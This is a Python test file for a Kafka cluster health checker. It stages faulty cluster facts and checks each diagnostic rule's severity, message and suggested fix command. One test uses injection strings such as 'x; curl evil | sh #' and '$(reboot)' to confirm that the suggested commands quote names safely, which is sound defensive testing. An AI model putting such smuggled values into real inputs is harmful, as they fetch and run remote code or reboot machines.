"""Each rule of the doctor: silent on healthy facts, and saying what it should on facts that are staged for it."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from types import MappingProxyType
from typing import Any
from uuid import UUID

import pytest
import typer

from ottla.cli.commands import app
from ottla.client.cluster_admin import LogDirFacts, ReplicaOnDisk
from ottla.client.group_admin import GroupDescription, GroupMember, PartitionLag
from ottla.client.model import BrokerInfo, Config, QuorumInfo, QuorumReplica, Reassignment
from ottla.client.transaction_admin import OpenTransaction, TransactionDescription
from ottla.diagnosis.facts import (
    ELIGIBLE_REPLICAS,
    AdvertisedEndpoint,
    ClockReading,
    DiskGrowth,
    Facts,
    FileSystem,
    GroupFacts,
    MachineFacts,
    NodeProcessFacts,
    PartitionFacts,
    TopicFacts,
)
from ottla.diagnosis.lost_disks import NodeData
from ottla.doctor.examination import RULES, examine
from ottla.doctor.finding import FindingSeverity, HealthFinding
from ottla.kafka_tools.names import MODULES
from ottla.losses.manifest import EpochRange, LossKind, Manifest, State
from ottla.losses.merge import merge

NOW_MS = 1_790_000_000_000
GIB = 1 << 30
SETTINGS = {
    "min.insync.replicas": "2",
    "unclean.leader.election.enable": "false",
    "cleanup.policy": "delete",
    "retention.ms": "604800000",
    "retention.bytes": "-1",
}


def partition(number: int, **changes: Any) -> PartitionFacts:
    replicas = tuple((number + shift) % 3 + 1 for shift in range(3))
    healthy = PartitionFacts(
        "orders", number, replicas[0], 4, replicas, replicas, (), (), (), 0, 1000, 1000
    )
    return replace(healthy, **changes)


def orders(**changes: Any) -> TopicFacts:
    healthy = TopicFacts("orders", None, False, tuple(map(partition, range(6))), SETTINGS)
    return replace(healthy, **changes)


def node(id: int, **changes: Any) -> NodeProcessFacts:
    disk = FileSystem(f"/data/{id}", 100 * GIB, 60 * GIB, 900_000, 1_000_000)
    healthy = NodeProcessFacts(id, "running", 100 + id, None, "1.0", 120, 65_536, (disk,), {})
    return replace(healthy, **changes)


def machine(**changes: Any) -> MachineFacts:
    kernel = {"vm.swappiness": "60", "vm.max_map_count": "65530", "vm.dirty_ratio": "20"}
    healthy = MachineFacts(
        "Linux 6", "3.11", "1.0", tuple(map(node, (1, 2, 3))), kernel, 8 * GIB, 0
    )
    return replace(healthy, **changes)


def log_dir(broker: int, **changes: Any) -> LogDirFacts:
    replicas = tuple(ReplicaOnDisk("orders", number, 100_000, 0, False) for number in range(6))
    return LogDirFacts(broker, f"/data/{broker}", None, 100 * GIB, 60 * GIB, replicas)._replace(
        **changes
    )


def endpoint(broker: int, **changes: Any) -> AdvertisedEndpoint:
    healthy = AdvertisedEndpoint(
        broker, "", f"kafka-{broker}", 9092, (f"10.0.0.{broker}",), None, 0.4, {0: (0, 13)}
    )
    return replace(healthy, **changes)


def voter(id: int, behind_ms: int = 0) -> QuorumReplica:
    return QuorumReplica(id, 500, NOW_MS - behind_ms, NOW_MS - behind_ms)


def with_other_disk(
    features: Any = MappingProxyType({"kraft.version": 1}), **voter_3: Any
) -> Facts:
    """Voter 3, as the leader heard it last, and an observer 3 that fetches."""
    voters = [voter(id)._replace(directory=UUID(int=id)) for id in (1, 2, 3)]
    voters[2] = voters[2]._replace(**voter_3)
    other = voter(3)._replace(directory=UUID(int=33))
    return replace(
        HEALTHY, quorum=QuorumInfo(1, 7, 500, tuple(voters), (other,)), features=features
    )


def config(name: str, value: str) -> Config:
    return Config(name, value, False, False, False)


def group(**changes: Any) -> GroupFacts:
    member = GroupMember("m-1", None, "app", "10.0.0.9", (("orders", 0),), 3)
    described = GroupDescription("billing", "consumer", "Stable", "uniform", 1, (member,), 3, None)
    lag = PartitionLag("orders", 0, 990, 0, 1000, NOW_MS - 2_000)
    return replace(GroupFacts(described, (lag,)), **changes)


HEALTHY = Facts(
    at_ms=NOW_MS,
    cluster_id="c",
    controller=1,
    brokers=tuple(BrokerInfo(id, f"kafka-{id}", 9092, f"rack-{id}") for id in (1, 2, 3)),
    endpoints=tuple(map(endpoint, (1, 2, 3))),
    topics=(orders(),),
    log_dirs=tuple(map(log_dir, (1, 2, 3))),
    groups=(group(),),
    broker_configs={
        id: (config("node.id", str(id)), config("log.retention.ms", "1")) for id in (1, 2, 3)
    },
    quorum=QuorumInfo(1, 7, 500, tuple(map(voter, (1, 2, 3))), ()),
    clocks=(
        ClockReading(1, 3.0, 1.0, "metadata quorum"),
        ClockReading(2, 0.0, 0.0, "same machine"),
    ),
    machine=machine(),
)


def brokers(**changes: Any) -> tuple[BrokerInfo, ...]:
    return (*HEALTHY.brokers[:2], HEALTHY.brokers[2]._replace(**changes))


def led_by(partitions: dict[int, dict[str, Any]]) -> TopicFacts:
    return orders(
        partitions=tuple(partition(number, **partitions.get(number, {})) for number in range(6))
    )


def open_transaction(age_ms: int, *, owned: bool) -> dict[str, Any]:
    transaction = TransactionDescription(
        "pay",
        "Ongoing",
        77,
        0,
        60_000,
        datetime.fromtimestamp(NOW_MS / 1000, UTC),
        (("orders", 0),),
        1,
    )
    return {
        "open_in": {("orders", 0): (OpenTransaction(77, 0, 0, 400, NOW_MS - age_ms),)},
        "transactions": (transaction,) if owned else (),
        "topics": (led_by({0: {"stable_end": 400}}),),
    }


def lost(**changes: Any) -> dict[str, Any]:
    manifest = Manifest(
        "b8cd", LossKind.TRUNCATION, State.KEPT, "orders", "id", 0, 100, 150, 160,
        (EpochRange(4, 100, 160),), 60, 5_000, NOW_MS, "unclean election", 3, 5, 1,
    )  # fmt: skip
    return {"losses": tuple(merge([manifest._replace(**changes)]))}


GROWING = DiskGrowth(minute=1 << 20, hour=1 << 20, history_s=7200.0)
DOWN = {"isr": (1, 2), "replicas": (1, 2, 3), "leader": 1}


def cordoned(broker: int, value: str) -> Facts:
    configs = {id: (config("cordoned.log.dirs", ""),) for id in (1, 2, 3)}
    return replace(
        HEALTHY, broker_configs={**configs, broker: (config("cordoned.log.dirs", value),)}
    )


STAGED: dict[str, list[tuple[FindingSeverity, str, Facts]]] = {
    "records-lost": [
        (
            FindingSeverity.SERIOUS,
            "orders-0 lost 50 committed records (offsets 100 to 149): unclean election",
            replace(HEALTHY, **lost()),
        ),
        (
            FindingSeverity.WARNING,
            "orders-0 may have lost 60 records (offsets 100 to 159)",
            replace(HEALTHY, **lost(committed_end=100)),
        ),
        (
            FindingSeverity.WARNING,
            "orders-0 lost 50 committed records",
            replace(HEALTHY, **lost(state=State.NOT_KEPT)),
        ),
    ],
    "name-unknown": [
        (
            FindingSeverity.SERIOUS,
            "does not know the name kafka-2",
            replace(HEALTHY, endpoints=(endpoint(2, resolved=(), error="unknown"),)),
        )
    ],
    "broker-unreachable": [
        (
            FindingSeverity.SERIOUS,
            "connection refused",
            replace(HEALTHY, endpoints=(endpoint(2, error="connection refused"),)),
        ),
        (
            FindingSeverity.SERIOUS,
            "it means this machine itself",
            replace(HEALTHY, endpoints=(endpoint(2, error="no", resolved=("127.0.0.1", "::1")),)),
        ),
    ],
    "other-listener-unreachable": [
        (
            FindingSeverity.NOTE,
            "listener INSIDE of broker 2",
            replace(
                HEALTHY, endpoints=(endpoint(2, listener="INSIDE", error="no answer in time"),)
            ),
        )
    ],
    "broker-fenced": [
        (
            FindingSeverity.SERIOUS,
            "broker 3",
            replace(HEALTHY, brokers=brokers(fenced=True), machine=None),
        ),
        (
            FindingSeverity.SERIOUS,
            "the node was killed",
            replace(
                HEALTHY,
                brokers=brokers(fenced=True),
                machine=machine(nodes=(node(3, state="killed", pid=None),)),
            ),
        ),
    ],
    "node-ended": [
        (
            FindingSeverity.SERIOUS,
            "node 2 of this machine died by SIGSEGV",
            replace(HEALTHY, machine=machine(nodes=(node(2, state="died by SIGSEGV", pid=None),))),
        )
    ],
    "versions-differ": [
        (
            FindingSeverity.WARNING,
            "brokers 1, 2 and brokers 3",
            replace(HEALTHY, endpoints=(*HEALTHY.endpoints[:2], endpoint(3, apis={0: (0, 9)}))),
        )
    ],
    "local-versions-differ": [
        (
            FindingSeverity.NOTE,
            "node 2 runs 0.9",
            replace(HEALTHY, machine=machine(nodes=(node(2, version="0.9"),))),
        )
    ],
    "clocks-differ": [
        (
            FindingSeverity.WARNING,
            "node 1 is 2.0 s ahead of",
            replace(HEALTHY, clocks=(ClockReading(1, 2_000.0, 5.0, "metadata quorum"),)),
        ),
        (
            FindingSeverity.SERIOUS,
            "node 1 is 60.0 s behind",
            replace(HEALTHY, clocks=(ClockReading(1, -60_000.0, 5.0, "metadata quorum"),)),
        ),
        (
            FindingSeverity.WARNING,
            "nodes 1 and 2 are",
            replace(
                HEALTHY,
                clocks=(ClockReading(1, 400.0, 0.0, "a"), ClockReading(2, -400.0, 0.0, "b")),
            ),
        ),
    ],
    "nobody-answers": [
        (
            FindingSeverity.SERIOUS,
            "no node",
            replace(HEALTHY, unknown={"the cluster": "connection refused"}),
        )
    ],
    "quorum-has-no-leader": [
        (
            FindingSeverity.SERIOUS,
            "does not answer",
            replace(HEALTHY, quorum=None, unknown={"the metadata quorum": "timed out"}),
        )
    ],
    "voters-behind": [
        (
            FindingSeverity.SERIOUS,
            "1 controller of 3 (node 3)",
            replace(
                HEALTHY, quorum=QuorumInfo(1, 7, 500, (voter(1), voter(2), voter(3, 60_000)), ())
            ),
        ),
        (
            FindingSeverity.WARNING,
            "1 controller of 5 (node 5)",
            replace(
                HEALTHY,
                quorum=QuorumInfo(1, 7, 500, (*map(voter, (1, 2, 3, 4)), voter(5, 60_000)), ()),
            ),
        ),
    ],
    "controller-without-vote": [
        (
            FindingSeverity.SERIOUS,
            "node 3 runs with another disk",
            with_other_disk(last_fetch_ms=-1, last_caught_up_ms=-1),
        ),
        (
            FindingSeverity.SERIOUS,
            "node 3 runs with another disk",
            with_other_disk(last_fetch_ms=NOW_MS - 60_000, last_caught_up_ms=NOW_MS - 60_000),
        ),
    ],
    "few-voters": [
        (
            FindingSeverity.WARNING,
            "1 controller for 3 brokers",
            replace(HEALTHY, quorum=QuorumInfo(1, 7, 500, (voter(1),), ())),
        )
    ],
    "partitions-offline": [
        (
            FindingSeverity.SERIOUS,
            "without loss: 2",
            replace(HEALTHY, topics=(led_by({1: {"leader": -1, "isr": (), "elr": (2,)}}),)),
        ),
        (
            FindingSeverity.SERIOUS,
            "without loss: none",
            replace(HEALTHY, topics=(led_by({1: {"leader": -1, "isr": ()}}),)),
        ),
    ],
    "below-min-insync": [
        (
            FindingSeverity.SERIOUS,
            "orders-0 has",
            replace(HEALTHY, topics=(led_by({0: {**DOWN, "isr": (1,)}}),)),
        )
    ],
    "under-replicated": [
        (FindingSeverity.WARNING, "out of sync: 3", replace(HEALTHY, topics=(led_by({0: DOWN}),)))
    ],
    "moves-stuck": [
        (
            FindingSeverity.WARNING,
            "orders-0 is being moved to broker 9",
            replace(HEALTHY, reassignments=(Reassignment("orders", 0, (1, 9), (9,), (2,)),)),
        )
    ],
    "throttles-left": [
        (
            FindingSeverity.WARNING,
            "on topic orders and broker 2",
            replace(
                HEALTHY,
                topics=(orders(own=("leader.replication.throttled.replicas",)),),
                broker_configs={
                    **HEALTHY.broker_configs,
                    2: (config("leader.replication.throttled.rate", "1000"),),
                },
            ),
        )
    ],
    "brokers-cordoned": [
        (FindingSeverity.WARNING, "a drain of it was interrupted", cordoned(3, "*")),
        (
            FindingSeverity.NOTE,
            "broker 3 is being drained: 1 replica leave",
            replace(
                cordoned(3, "*"), reassignments=(Reassignment("orders", 0, (1, 2, 3), (), (3,)),)
            ),
        ),
        (FindingSeverity.NOTE, "broker 9 is drained", cordoned(9, "*")),
        (FindingSeverity.NOTE, "directory /a of broker 3 is cordoned", cordoned(3, "/a")),
    ],
    "leaders-skewed": [
        (
            FindingSeverity.WARNING,
            "2 of 6 partitions",
            replace(HEALTHY, topics=(led_by({1: {"leader": 1}, 2: {"leader": 1}}),)),
        )
    ],
    "replicas-on-one-rack": [
        (
            FindingSeverity.WARNING,
            "all replicas on rack a",
            replace(
                HEALTHY,
                brokers=tuple(
                    BrokerInfo(id, "h", 1, "b" if id == 4 else "a") for id in (1, 2, 3, 4)
                ),
            ),
        )
    ],
    "racks-incomplete": [
        (
            FindingSeverity.NOTE,
            "broker 3 has no broker.rack",
            replace(HEALTHY, brokers=brokers(rack=None)),
        )
    ],
    "settings-differ": [
        (
            FindingSeverity.WARNING,
            "log.retention.ms differs",
            replace(
                HEALTHY,
                broker_configs={**HEALTHY.broker_configs, 3: (config("log.retention.ms", "2"),)},
            ),
        )
    ],
    "log-dir-failed": [
        (
            FindingSeverity.SERIOUS,
            "KAFKA_STORAGE_ERROR",
            replace(HEALTHY, log_dirs=(log_dir(1, error="KAFKA_STORAGE_ERROR"),)),
        )
    ],
    "disk-full": [
        (
            FindingSeverity.SERIOUS,
            "it takes no records",
            replace(HEALTHY, log_dirs=(log_dir(1, refuses_records=True),)),
        ),
        (
            FindingSeverity.SERIOUS,
            "1.0 GiB left, 1%",
            replace(HEALTHY, log_dirs=(log_dir(1, usable_bytes=GIB),)),
        ),
        (
            FindingSeverity.WARNING,
            "8.0 GiB left, 8%",
            replace(HEALTHY, log_dirs=(log_dir(1, usable_bytes=8 * GIB),)),
        ),
        (
            FindingSeverity.SERIOUS,
            "node 1",
            replace(
                HEALTHY,
                log_dirs=(),
                machine=machine(nodes=(node(1, disks=(FileSystem("/node 1", 100, 1, 9, 10),)),)),
            ),
        ),
    ],
    "inodes-few": [
        (
            FindingSeverity.SERIOUS,
            "10 of 1000 inodes",
            replace(
                HEALTHY,
                machine=machine(nodes=(node(1, disks=(FileSystem("/d", GIB, GIB, 10, 1000),)),)),
            ),
        )
    ],
    "disk-will-be-full": [
        (
            FindingSeverity.SERIOUS,
            "will be full in",
            replace(
                HEALTHY,
                growth={1: GROWING},
                log_dirs=(log_dir(1, replicas=(ReplicaOnDisk("orders", 0, 20 * GIB, 0, False),)),),
            ),
        )
    ],
    "open-files-few": [
        (
            FindingSeverity.SERIOUS,
            "1000 files, and has 900 open",
            replace(
                HEALTHY, machine=machine(nodes=(node(1, open_files=900, open_files_max=1000),))
            ),
        ),
        (
            FindingSeverity.WARNING,
            "1024 files",
            replace(HEALTHY, machine=machine(nodes=(node(1, open_files_max=1024),))),
        ),
    ],
    "kernel-settings": [
        (
            FindingSeverity.WARNING,
            "vm.swappiness is 60",
            replace(HEALTHY, machine=machine(swap_used_bytes=GIB)),
        ),
        (
            FindingSeverity.WARNING,
            "vm.overcommit_memory is 2",
            replace(HEALTHY, machine=machine(kernel={"vm.overcommit_memory": "2"})),
        ),
        (
            FindingSeverity.WARNING,
            "vm.max_map_count is 1000",
            replace(HEALTHY, machine=machine(kernel={"vm.max_map_count": "1000"})),
        ),
        (
            FindingSeverity.WARNING,
            "vm.dirty_ratio is 90",
            replace(HEALTHY, machine=machine(kernel={"vm.dirty_ratio": "90"})),
        ),
    ],
    "group-held-up": [
        (
            FindingSeverity.SERIOUS,
            "rebalancing for 5 minutes, waiting for 1 member",
            replace(
                HEALTHY,
                groups=(
                    group(
                        description=group().description._replace(
                            hold_up={"since_ms": NOW_MS - 300_000, "late": [{}]}
                        )
                    ),
                ),
            ),
        )
    ],
    "group-stuck": [
        (
            FindingSeverity.WARNING,
            "10 records behind; the oldest has waited for 60 minutes",
            replace(
                HEALTHY,
                groups=(
                    group(lags=(PartitionLag("orders", 0, 990, 0, 1000, NOW_MS - 3_600_000),)),
                ),
            ),
        )
    ],
    "group-lost-records": [
        (
            FindingSeverity.WARNING,
            "retention removed 90 records",
            replace(
                HEALTHY, groups=(group(lags=(PartitionLag("orders", 0, 10, 100, 1000, None),)),)
            ),
        )
    ],
    "transaction-pins": [
        (
            FindingSeverity.WARNING,
            "transaction pay has been open in orders-0 for 2 minutes and holds back 600 records",
            replace(HEALTHY, **open_transaction(120_000, owned=True)),
        ),
        (
            FindingSeverity.SERIOUS,
            "no coordinator knows it",
            replace(HEALTHY, **open_transaction(600_000, owned=False)),
        ),
    ],
}
TRAPS: dict[str, tuple[FindingSeverity, dict[str, Any]]] = {
    "one-replica": (
        FindingSeverity.WARNING,
        {"partitions": (partition(0, replicas=(1,), isr=(1,), leader=1),)},
    ),
    "min-insync-is-factor": (
        FindingSeverity.WARNING,
        {"configs": {**SETTINGS, "min.insync.replicas": "3"}},
    ),
    "min-insync-above-factor": (
        FindingSeverity.WARNING,
        {"configs": {**SETTINGS, "min.insync.replicas": "4"}},
    ),
    "min-insync-one": (
        FindingSeverity.WARNING,
        {"configs": {**SETTINGS, "min.insync.replicas": "1"}},
    ),
    "unclean-elections": (
        FindingSeverity.WARNING,
        {"configs": {**SETTINGS, "unclean.leader.election.enable": "true"}},
    ),
}
CASES = [
    (rule, severity, text, facts)
    for rule, cases in STAGED.items()
    for severity, text, facts in cases
] + [
    (name, severity, "topic orders", replace(HEALTHY, topics=(orders(**changes),)))
    for name, (severity, changes) in TRAPS.items()
]


def test_the_doctor_is_silent_about_a_healthy_cluster() -> None:
    assert examine(HEALTHY) == []


@pytest.mark.parametrize(("rule", "severity", "text", "facts"), CASES)
def test_a_rule_finds_what_is_staged_for_it(
    rule: str, severity: FindingSeverity, text: str, facts: Facts
) -> None:
    (found,) = [each for each in examine(facts) if each.rule == rule and text in each.what]
    assert found.severity is severity
    assert found.why and found.mend


def test_records_that_were_recovered_are_no_finding() -> None:
    assert examine(replace(HEALTHY, **lost(recovered_to="orders-recovered"))) == []


def test_every_rule_has_a_staged_case() -> None:
    assert set(RULES) == {*STAGED, "topic-settings"}


def test_the_settings_of_the_event_log_are_on_purpose() -> None:
    configs = {"min.insync.replicas": "1", "unclean.leader.election.enable": "true"}
    events = replace(orders(), name="__ottla_events", internal=True, configs=configs)
    assert examine(replace(HEALTHY, topics=(orders(), events))) == []


def test_unclean_elections_are_serious_where_transactions_are_used() -> None:
    state = replace(orders(), name="__transaction_state", internal=True)
    topic = orders(configs={**SETTINGS, "unclean.leader.election.enable": "true"})
    (found,) = examine(replace(HEALTHY, topics=(topic, state)))
    assert (found.rule, found.severity) == ("unclean-elections", FindingSeverity.SERIOUS)


@pytest.mark.parametrize(
    "facts",
    [facts for *_, facts in CASES],
    ids=[f"{rule}-{index}" for index, (rule, *_) in enumerate(CASES)],
)
def test_every_ottla_command_of_a_finding_exists(facts: Facts) -> None:
    for finding in examine(facts, " --dir /tmp/none"):
        for part in finding.mend.partition("  #")[0].split(" && "):
            words = shlex.split(part)
            if words[0] == "ottla" and words[1] not in MODULES:
                parse(words[1:])


def parse(words: list[str]) -> None:
    """As the command line does, without running it."""
    command: Any = typer.main.get_command(app)
    while hasattr(command, "commands"):
        command = command.commands[words.pop(0)]
    command.make_context(command.name, words)


def test_a_transaction_is_not_said_to_hang_while_a_coordinator_is_silent() -> None:
    facts = replace(
        HEALTHY,
        **open_transaction(600_000, owned=False),
        unknown={"transactions of broker 2": "it does not answer"},
    )
    assert not [each for each in examine(facts) if each.rule == "transaction-pins"]


def forecast(**changes: Any) -> list[HealthFinding]:
    held = (ReplicaOnDisk("orders", 0, 20 * GIB, 0, False),)
    facts = replace(HEALTHY, growth={1: GROWING}, log_dirs=(log_dir(1, replicas=held),))
    found = examine(replace(facts, **changes))
    return [each for each in found if each.rule == "disk-will-be-full"]


def test_the_forecast_is_that_of_the_bytes_that_a_broker_has_measured() -> None:
    (found,) = forecast()
    assert "will be full in 17 hours, at the rate of the last hour (1.0 MiB/s" in found.what


@pytest.mark.parametrize(
    "growth",
    [
        replace(GROWING, history_s=300.0),
        replace(GROWING, minute=0.0),
        replace(GROWING, hour=-1.0),
    ],
    ids=["too young", "grows no more", "shrinks"],
)
def test_there_is_no_forecast_without_a_lasting_growth(growth: Any) -> None:
    assert forecast(growth={1: growth}) == []


def test_a_disk_to_which_replicas_are_moved_now_is_not_said_to_fill() -> None:
    assert forecast(reassignments=(Reassignment("orders", 0, (2, 3, 1), (1,), ()),)) == []


@pytest.mark.parametrize("kept", [{"retention.bytes": str(30 * GIB)}, {"retention.ms": "3600000"}])
def test_a_disk_that_retention_keeps_below_its_size_is_not_said_to_fill(
    kept: dict[str, str],
) -> None:
    assert forecast(topics=(orders(configs={**SETTINGS, **kept}),)) == []


def test_nodes_of_this_machine_fill_the_disk_that_they_share_together() -> None:
    shared = tuple(node(id, disks=(FileSystem(f"/data/{id}", 9, 9, 9, 9, 7),)) for id in (1, 2, 3))
    (found,) = forecast(
        machine=machine(nodes=shared),
        growth=dict.fromkeys((1, 2, 3), GROWING),
        log_dirs=HEALTHY.log_dirs,
    )
    assert "(broker 1, 2, 3) will be full in 6 hours" in found.what


def test_rules_are_named_as_their_findings() -> None:
    names: dict[str, Callable[..., Any]] = dict(RULES)
    assert all(name == each.__name__.replace("_", "-") for name, each in names.items())


def test_an_unclean_election_is_not_advised_while_a_replica_is_missing() -> None:
    offline = replace(HEALTHY, topics=(led_by({1: {"leader": -1, "isr": ()}}),))
    (finding,) = [each for each in examine(offline) if each.rule == "partitions-offline"]
    assert "--unclean" in finding.mend, "all its replicas are there and none may lead"
    silent = replace(
        offline,
        brokers=tuple(each for each in offline.brokers if each.id != 2),
        unknown={ELIGIBLE_REPLICAS: "an answer is overdue"},
        machine=machine(nodes=(node(2, state="killed", pid=None),)),
    )
    (finding,) = [each for each in examine(silent) if each.rule == "partitions-offline"]
    assert "is not known" in finding.what
    assert finding.mend == "ottla nodes start 2"


@pytest.mark.parametrize("id", ["x; curl evil | sh #", "it's", "--help", "$(reboot)", "a b"])
def test_a_name_in_a_mend_is_one_word_to_the_shell_and_no_option(id: str) -> None:
    facts = replace(HEALTHY, **open_transaction(600_000, owned=True))
    facts = replace(facts, transactions=(facts.transactions[0]._replace(id=id),))
    (found,) = [each for each in examine(facts, " --dir d") if each.rule == "transaction-pins"]
    words = shlex.split(found.mend)
    assert words[:3] == ["ottla", "transactions", "abort"] and id in words
    parse(words[1:])


def offline_finding(facts: Facts) -> HealthFinding:
    (found,) = [each for each in examine(facts) if each.rule == "partitions-offline"]
    return found


def test_an_unclean_election_is_advised_only_for_the_partitions_that_need_it() -> None:
    lost = {"leader": -1, "isr": ()}
    found = offline_finding(replace(HEALTHY, topics=(led_by({1: lost, 4: lost}),)))
    assert found.mend.startswith("ottla topics elect orders --unclean -p 1 -p 4  #")


def test_who_was_eligible_last_is_awaited_and_not_said_to_lead_without_loss() -> None:
    lost = {"leader": -1, "isr": (), "replicas": (1, 2, 3), "last_known_elr": (3,)}
    facts = replace(HEALTHY, topics=(led_by({1: lost}),), brokers=brokers(fenced=True))
    killed = machine(nodes=(node(3, state="killed", pid=None),))
    found = offline_finding(replace(facts, machine=killed))
    assert "without loss: none; the last known to be eligible, which may lack records: 3" in (
        found.what
    )
    assert found.mend == "ottla nodes start 3"


def mend_of_a_full_disk(*dirs: LogDirFacts) -> str:
    here = replace(HEALTHY, log_dirs=(log_dir(1, refuses_records=True), *dirs))
    return next(each.mend for each in examine(here) if each.rule == "disk-full")


def test_what_makes_room_is_named_before_what_deletes_records() -> None:
    mend = mend_of_a_full_disk(log_dir(2))
    assert mend.startswith("ottla balance apply  # ")
    assert mend.index("a larger disk") < mend.index("DELETES the older half of orders")
    alone = mend_of_a_full_disk(log_dir(2, usable_bytes=GIB))
    assert alone.startswith("df -h /data/1  # make room: a larger disk")


def test_a_replica_may_go_to_another_disk_of_its_broker() -> None:
    mend = mend_of_a_full_disk(log_dir(1, path="/more", replicas=()))
    assert '"replicas": [1, 2, 3], "log_dirs": ["/more", "any", "any"]' in mend
    assert " > move.json && ottla reassign execute move.json  # " in mend


def move_to_2(grown: int, **changes: Any) -> list[HealthFinding]:
    """Of a replica that lacks something, between two looks."""

    def look(size: int) -> tuple[LogDirFacts, ...]:
        return (
            log_dir(1),
            log_dir(2, replicas=(ReplicaOnDisk("orders", 0, size, 0, False),), **changes),
        )

    here = replace(
        HEALTHY,
        topics=(led_by({0: {"replicas": (1, 3, 2), "isr": (1, 3)}}),),
        reassignments=(Reassignment("orders", 0, (1, 3, 2), (2,), ()),),
        before=look(500),
        log_dirs=look(500 + grown),
    )
    return [each for each in examine(here) if each.rule == "moves-stuck"]


def test_a_move_that_does_not_advance_is_told_with_what_holds_it_up() -> None:
    assert move_to_2(grown=1) == []
    (found,) = move_to_2(grown=0)
    assert "broker 2, which copied nothing within 3 s (500 B of 97.7 KiB)" in found.what
    (full,) = move_to_2(grown=0, refuses_records=True)
    assert "The disk of /data/2 is nearly full" in full.why


def test_what_nobody_set_may_differ_between_ottlas_brokers_and_kafkas() -> None:
    ours = config("log.retention.ms", "1")._replace(is_default=True)
    kafkas = ours._replace(value="2")
    configs = {1: (ours,), 2: (ours,), 3: (kafkas,)}
    assert "settings-differ" not in {
        each.rule for each in examine(replace(HEALTHY, broker_configs=configs))
    }


def test_a_cordon_and_a_throttle_are_no_settings_that_differ() -> None:
    for facts in (cordoned(3, "*"), *(facts for _, _, facts in STAGED["throttles-left"])):
        assert "settings-differ" not in {each.rule for each in examine(facts)}


def test_a_drain_that_was_interrupted_is_told_with_the_commands_that_resume_and_end_it() -> None:
    (found,) = examine(cordoned(3, "*"))
    assert found.mend == (
        "ottla brokers drain 3  # goes on with the drain; ottla brokers drain 3 --undo ends it"
    )


@pytest.mark.parametrize(
    "version, mend",
    [
        (1, "ottla migrate retire 3  # takes it out"),
        (0, "ottla brokers drain 3 --undo  # ends it; broker 3 is a controller, too, and stays"),
    ],
    ids=["dynamic", "static"],
)
def test_a_drained_broker_that_votes_is_not_removed_before_its_vote(
    version: int, mend: str
) -> None:
    here = replace(
        with_other_disk({"kraft.version": version}),
        broker_configs=cordoned(3, "*").broker_configs,
        topics=(),
    )
    (found,) = (each for each in examine(here) if each.rule == "brokers-cordoned")
    assert found.mend.startswith(mend)


def test_only_a_paused_process_is_continued() -> None:
    (found,) = examine(replace(HEALTHY, brokers=brokers(fenced=True)))
    assert "its process 103 runs, and is still starting" in found.what
    assert found.mend == "ottla explain --broker 3"
    paused = machine(nodes=(node(1), node(2), node(3, paused=True)))
    (found,) = examine(replace(HEALTHY, brokers=brokers(fenced=True), machine=paused))
    assert "its process 103 is paused" in found.what
    assert found.mend == "kill -CONT 103"


@pytest.mark.parametrize("heard_ms", [-1, NOW_MS - 60_000], ids=["never", "before"])
def test_a_controller_with_another_disk_gets_its_vote_where_voters_can_change(
    heard_ms: int,
) -> None:
    heard = {"last_fetch_ms": heard_ms, "last_caught_up_ms": heard_ms}
    (found,) = examine(with_other_disk(**heard))
    assert found.mend == "ottla controllers replace 3"
    static = examine(with_other_disk({"kraft.version": 0}, **heard))
    assert "controller-without-vote" not in [each.rule for each in static]
    assert examine(with_other_disk()) == [], "its voter fetches as late as the observer"


def test_a_controller_that_runs_and_has_not_caught_up_yet_is_no_finding() -> None:
    young = voter(3)._replace(last_caught_up_ms=-1)
    facts = replace(HEALTHY, quorum=QuorumInfo(1, 7, 500, (voter(1), voter(2), young), ()))
    assert examine(facts) == []
    killed = machine(nodes=(node(1), node(2), node(3, state="killed", pid=None)))
    assert "voters-behind" in [each.rule for each in examine(replace(facts, machine=killed))]


def voting(id: int, lost: bool = False, vote: bool = True, **changes: Any) -> NodeProcessFacts:
    """A node that votes, and whose disk may be gone."""
    data = NodeData(
        id, (f"/d/{id}",) if lost else (), f"/c/{id}", True, f"{id}@h:{id}" if vote else ""
    )
    if lost:
        changes |= {"state": "killed", "pid": None}
    return node(id, data=data, **changes)


def test_a_broker_whose_disk_is_gone_is_replaced_and_not_started() -> None:
    def of(vote: bool) -> HealthFinding:
        nodes = (voting(1), voting(2), voting(3, lost=True, vote=vote))
        here = replace(HEALTHY, brokers=brokers(fenced=True), machine=machine(nodes=nodes))
        (found,) = examine(here)
        return found

    assert "the node was killed, and its log directory /d/3 is gone" in of(True).what
    assert of(True).mend == "ottla brokers replace 3"
    assert of(False).mend == "ottla brokers replace 3 && ottla controllers replace 3"


def test_without_a_majority_the_controllers_that_have_disks_start_first() -> None:
    nodes = (voting(1), voting(2, state="killed", pid=None), voting(3, lost=True))
    here = replace(HEALTHY, machine=machine(nodes=nodes))
    lost, *_ = (each for each in examine(here) if each.rule == "quorum-has-no-leader")
    assert "1 of 3 controllers runs" in lost.what, "though its leader has not noticed it yet"
    assert lost.mend.startswith("ottla nodes start 2 && ottla brokers replace 3  # ")


def test_of_three_controllers_the_one_that_is_left_votes_alone_where_voters_are_static() -> None:
    def mend(vote: bool) -> str:
        nodes = (voting(1, vote=vote), voting(2, True, vote), voting(3, True, vote))
        here = replace(HEALTHY, unknown={"the metadata quorum": "no answer"}, quorum=None)
        found = examine(replace(here, machine=machine(nodes=nodes)))
        return next(each.mend for each in found if each.rule == "quorum-has-no-leader")

    few = "controller.quorum.voters=1@h:1"
    assert mend(True).split("  # ")[0].split(" && ") == [
        "ottla down",
        f"sed -i.all-voters 's/^controller.quorum.voters=.*/{few}/' /c/1",
        "ottla up --detach",
        "mv /c/1.all-voters /c/1",
        "ottla nodes stop 1",
        "ottla nodes start 1",
    ]
    assert mend(False).startswith("# The disks of 2 of 3 controllers are gone"), "no command helps"


def test_an_offline_partition_is_not_awaited_of_a_disk_that_is_gone() -> None:
    nodes = (voting(1), voting(2), voting(3, lost=True))
    only = led_by({1: {"leader": -1, "isr": (3,)}})
    here = replace(HEALTHY, topics=(only,), machine=machine(nodes=nodes))
    found = offline_finding(here)
    assert found.what.endswith("the disk of broker 3 is gone")
    assert found.mend.startswith("ottla topics elect orders --unclean -p 1")


def test_files_of_one_node_are_not_compared() -> None:
    names = (
        "ssl.keystore.location",
        "ssl.truststore.location",
        "listener.name.clients.ssl.truststore.location",
        "controller.quorum.bootstrap.servers",
    )
    configs = {
        id: tuple(config(name, f"/d/node-{id}/{name}") for name in names) for id in (1, 2, 3)
    }
    assert not examine(replace(HEALTHY, broker_configs=configs))


